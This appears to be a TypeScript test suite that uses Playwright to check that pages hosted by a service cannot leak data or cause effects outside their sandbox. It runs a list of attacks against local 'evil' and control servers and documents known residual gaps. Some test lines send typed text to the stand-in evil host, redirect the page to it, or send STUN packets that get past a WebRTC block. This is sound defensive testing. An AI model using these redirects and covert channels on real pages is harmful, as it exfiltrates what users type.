import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import type { Browser, Page } from "playwright-core";
import { ATTACKS, type Attack, pageOf } from "./browser/attacks.ts";
import { openChromium } from "./browser/chromium.ts";
import { openControl, openEvil, openService, openUdp } from "./browser/servers.ts";

/** Enough for a request to reach a server of this machine; what is held back stays held back. */
const SETTLING_MS = 300;
const DONE_MS = 1_500;
const EFFECT_MS = 10_000;
const LOOK_MS = 50;
const AT_ONCE = 6;

let browser: Browser;
let service: Awaited<ReturnType<typeof openService>>;
let control: Awaited<ReturnType<typeof openControl>>;
let evil: Awaited<ReturnType<typeof openEvil>>;

before(async () => {
  [browser, service, control, evil] = await Promise.all([
    openChromium(),
    openService(),
    openControl(),
    openEvil(),
  ]);
});
after(() => Promise.all([browser, service, control, evil].map((each) => each.close())));

/** What a visit has set off, beside what its pages say themselves. */
interface Visit {
  readonly page: Page;
  readonly effects: Set<string>;
}

/** Visits as somebody who has cookies of the network's address, and who grants whatever is asked for. */
async function visiting(during: (visit: Visit) => Promise<void>): Promise<void> {
  const context = await browser.newContext({
    geolocation: { latitude: 1, longitude: 1 },
    permissions: ["geolocation", "clipboard-read", "clipboard-write"],
  });
  await context.addCookies([{ name: "planted", value: "1", url: service.baseUrl }]);
  const effects = new Set<string>();
  context.on("page", (page) => {
    page.on("download", () => effects.add("a download"));
    page.on("dialog", (dialog) => {
      effects.add("a dialog");
      void dialog.dismiss().catch(() => {});
    });
  });
  await during({ page: await context.newPage(), effects });
  await context.close();
}

/** Whatever came of an attack so far, in all pages and frames of the visit. */
async function effectsOf({ page, effects }: Visit, hits: string): Promise<Set<string>> {
  const all = new Set(effects);
  if (evil.hits(hits) > 0) all.add("a hit");
  for (const { headers } of service.requests(hits))
    if (headers.cookie !== undefined) all.add("a cookie at the network");
  for (const frame of page
    .context()
    .pages()
    .flatMap((each) => each.frames())) {
    const said: unknown = await frame.evaluate("window.effects ?? []").catch(() => []);
    if (Array.isArray(said)) for (const effect of said) all.add(String(effect));
  }
  return all;
}

/** Hosts the attack's page, goes there, and waits: until something happens, or nothing can any more. */
async function attempt(
  attack: Attack,
  { host, expects }: { host(html: string): string | Promise<string>; expects: "effects" | "none" },
): Promise<Set<string>> {
  const hits = `/${expects}/${ATTACKS.indexOf(attack)}/`;
  const names = { evil: evil.url + hits, network: service.baseUrl };
  const app = await host(pageOf(attack.script, names));
  const start = attack.start && pageOf(attack.start, { ...names, app });
  const url = start === undefined ? app : evil.host(`/start${hits}`, start);
  let effects = new Set<string>();
  await visiting(async (visit) => {
    await visit.page.goto(url, { waitUntil: "commit" });
    if (expects === "none") {
      await visit.page.waitForFunction("window.done", null, { timeout: DONE_MS }).catch(() => {});
      await sleep(SETTLING_MS);
    }
    const until = Date.now() + EFFECT_MS;
    do {
      effects = await effectsOf(visit, hits);
      if (expects === "effects") await sleep(LOOK_MS);
    } while (expects === "effects" && effects.size === 0 && Date.now() < until);
  });
  return effects;
}

/** All attacks, some at a time; by name, what came of each that had any effect. */
async function attemptAll(how: Parameters<typeof attempt>[1]): Promise<Record<string, string[]>> {
  const found: Record<string, string[]> = {};
  const left = [...ATTACKS];
  const work = async () => {
    for (let attack = left.pop(); attack !== undefined; attack = left.pop()) {
      const effects = await attempt(attack, how);
      if (effects.size > 0) found[attack.name] = [...effects];
    }
  };
  await Promise.all(Array.from({ length: AT_ONCE }, work));
  return found;
}

test("no attack of a hosted page has any effect", async () => {
  assert.deepEqual(await attemptAll({ host: service.host, expects: "none" }), {});
  assert.equal(evil.hits("/none/"), 0, "nothing comes late, either");
});

test("without the headers every one of them has", async () => {
  const found = await attemptAll({ host: control.host, expects: "effects" });
  const without = ATTACKS.filter(({ name }) => found[name] === undefined);
  // Memory is shared only with pages that ask for isolation by headers.
  assert.deepEqual(
    without.map(({ name }) => name),
    ["shared memory"],
  );
});

const ORDINARY = `
  const style = add('style', { textContent: 'p { color: rgb(1, 2, 3) }' });
  const paragraph = add('p', { textContent: 'x' });
  if (getComputedStyle(paragraph).color === 'rgb(1, 2, 3)') effect('style');
  if (new Function('return 7')() === 7) effect('eval');
  const image = new Image();
  image.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==';
  await image.decode();
  effect('image');
  const worker = new Worker(blob('text/javascript', 'postMessage(1)'));
  await new Promise((ok) => { worker.onmessage = ok; });
  effect('worker');
  const form = add('form', { onsubmit: (event) => { event.preventDefault(); effect('form'); } });
  form.requestSubmit();
  const feed = await (await fetch(network + '/api/v1/feed?ordinary')).json();
  if (feed.ok) effect('network');
  const refused = await fetch(network + '/api/v1/post?ordinary', { method: 'POST', headers: { authorization: 'Bearer x' } });
  if ((await refused.json()).error === 'token_malformed') effect('token');
  effect(origin);`;

test("an ordinary page works and talks to the network", async () => {
  const url = await service.host(pageOf(ORDINARY, { evil: evil.url, network: service.baseUrl }));
  await visiting(async ({ page }) => {
    await page.goto(url);
    await page.waitForFunction("window.done");
    assert.deepEqual(await page.evaluate("window.effects"), [
      "style",
      "eval",
      "image",
      "worker",
      "form",
      "network",
      "token",
      "null",
    ]);
    const requests = service.requests("ordinary");
    assert.deepEqual(
      requests.map(({ method }) => method),
      ["GET", "OPTIONS", "POST"],
    );
    for (const { headers } of requests) {
      assert.equal(headers.origin, "null");
      assert.deepEqual([headers.cookie, headers.referer], [undefined, undefined]);
    }
  });
});

/** Goes to a hosted page and waits until `happened`: a browser that changes fails the test. */
async function residual(html: string, happened: () => boolean): Promise<void> {
  const url = await service.host(html);
  await visiting(async ({ page }) => {
    await page.goto(url);
    for (const until = Date.now() + EFFECT_MS; !happened() && Date.now() < until; )
      await sleep(LOOK_MS);
  });
  assert.ok(happened());
}

test("residual 1: a page can take its reader elsewhere, with what was typed", async () => {
  const names = { evil: `${evil.url}/residual-1`, network: service.baseUrl };
  await residual(
    pageOf("location = evil + '?typed=secret'", names),
    () => evil.hits("/residual-1?typed=secret") > 0,
  );
  const refresh = `<meta http-equiv="refresh" content="0;url=${evil.url}/residual-1-refresh">`;
  await residual(refresh, () => evil.hits("/residual-1-refresh") > 0);
});

test("residual 2: STUN packets leave, although the policy blocks WebRTC", async (t) => {
  const udp = await openUdp();
  t.after(udp.close);
  const script = `
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${udp.at}' }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await wait(60000);`;
  const names = { evil: evil.url, network: service.baseUrl };
  await residual(pageOf(script, names), () => udp.packets() > 0);
});

test("residual 3: whether a link opens a connection is left to the browser", async (t) => {
  const connections = async (host: typeof service.host | typeof control.host) => {
    const silent = await openEvil();
    t.after(silent.close);
    const url = await host(`<link rel="preconnect" href="${silent.url}"><p>x`);
    await visiting(async ({ page }) => {
      await page.goto(url);
      await sleep(SETTLING_MS);
    });
    return silent.connections();
  };
  assert.equal(await connections(service.host), await connections(control.host));
});
